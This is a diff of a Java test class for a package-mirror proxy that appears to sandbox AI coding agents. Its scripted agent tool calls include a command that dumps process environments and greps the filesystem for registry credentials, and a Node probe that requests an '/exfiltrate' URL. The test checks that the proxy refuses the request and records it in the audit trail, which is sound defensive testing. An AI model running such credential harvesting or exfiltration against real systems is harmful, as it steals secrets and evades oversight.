@@ -31,6 +31,7 @@ import javax.sql.DataSource;
 import org.eclipse.jgit.api.Git;
 import org.eclipse.jgit.lib.PersonIdent;
 import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -61,7 +62,7 @@ class PackageMirrorSessionTest {
         Files.writeString(pkg.resolve("index.js"), "module.exports.twice = x => 2 * x;\n");
         registry.publish(pkg);
         npmRepo("droid-npm");
-        String search = "env; cat /proc/*/environ 2>/dev/null | tr '\\\\0' '\\\\n'; grep -rl -e " + Verdaccio.PASSWORD + " -e "
+        String search = "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; grep -rl -e " + Verdaccio.PASSWORD + " -e "
                 + Base64.getEncoder().encodeToString(registry.credential().getBytes(StandardCharsets.UTF_8)) + " $HOME /workspace /tmp /run 2>/dev/null; echo searched";
         DroidTestServices.SCRIPTS.put("fix-npm", script(
                 calls("run_command", args("command", search)),
@@ -70,15 +71,22 @@ class PackageMirrorSessionTest {
                 calls("run_tests", "{}"),
                 calls("finish", args("summary", "quadruple() added one instead of doubling twice."))));
         DroidTestServices.SCRIPTS.put("npm-steal", script(
-                calls("run_command", args("command", "curl -s -S http://127.0.0.1:9/exfiltrate; echo")),
+                calls("create_file", args("path", "probe.js", "content",
+                        "require('http').get({host: '127.0.0.1', port: 3128, path: 'http://127.0.0.1:9/exfiltrate'}, r => { let b = ''; "
+                                + "r.on('data', d => b += d); r.on('end', () => console.log(r.statusCode + ' ' + b)); }).on('error', e => console.log('error ' + e.message));\n")),
+                calls("run_command", args("command", "node probe.js")),
                 calls("ask_user", args("question", "Done?"))));
+    }
+
+    @AfterEach
+    void noMirrorForOtherClasses() {
+        // other classes' sessions in the demo workspace get no mirror and no setup step
+        given().auth().oauth2(Tokens.of("wanda")).when().delete("/api/workspaces/demo/repositories/droid-npm/setup");
+        given().auth().oauth2(Tokens.of("alice")).when().delete("/api/admin/package-mirrors/corp-npm");
     }
 
     @AfterAll
     static void stopRegistry() {
-        // other classes' sessions in the demo workspace get no mirror, no setup step
-        given().auth().oauth2(Tokens.of("wanda")).when().delete("/api/workspaces/demo/repositories/droid-npm/setup");
-        given().auth().oauth2(Tokens.of("alice")).when().delete("/api/admin/package-mirrors/corp-npm");
         if (registry != null) {
             registry.close();
         }
@@ -137,7 +145,7 @@ class PackageMirrorSessionTest {
 
         // Then the proxy refused the request, the session log has it, and so does the audit trail
         assertThat(observations(id, Observation.CommandFinished.class).getFirst().output())
-                .contains("127.0.0.1:9 is not a package mirror this workspace allows");
+                .contains("403 drydock: 127.0.0.1:9 is not a package mirror this workspace allows");
         assertThat(observations(id, Telemetry.MirrorRequested.class)).filteredOn(r -> !r.allowed())
                 .containsExactly(new Telemetry.MirrorRequested("GET", "http://127.0.0.1:9/exfiltrate", "", false, false));
         assertThat(audit()).anySatisfy(a -> assertThat(a).contains("mirror.refused").contains("http://127.0.0.1:9/exfiltrate").contains(id));
